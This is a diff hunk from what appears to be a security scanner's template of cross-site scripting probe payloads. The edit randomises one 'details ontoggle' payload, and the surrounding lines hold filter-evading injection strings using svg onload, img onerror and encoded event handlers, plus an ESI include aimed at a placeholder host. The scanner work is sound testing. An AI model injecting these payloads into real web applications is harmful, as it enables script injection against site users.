@@ -407,7 +407,7 @@ xss/scanner 4: '"()&%<acx><ScRiPt >‹~2-6›(‹n›)</ScRiPt>
   "><svg/class=‹~4-8› onload=alert(1)>
   <d3v/onmouseover=[‹n›].find(confirm)>‹~2-5›
   <a%09onclick%0a=%0aconfirm()//‹~2-5›
-  <dETAILS%0aopen%0aonToGgle%0a=%0aa=prompt,a() x>
+  <‹mixed!details›%0aopen%0a‹mixed!ontoggle›%0a=%0a‹=v:‹~1-3››=‹prompt¦confirm¦alert›,‹=v›() ‹~1-3›>
   <img src=xyz OnErRor=‹~2-5›(‹#9000-9999›)>
   <img<!-- --> src=x onerror=alert(1);//><!--
   ‹~3-6›<esi:include src="http://‹host›/rpb.png"/>
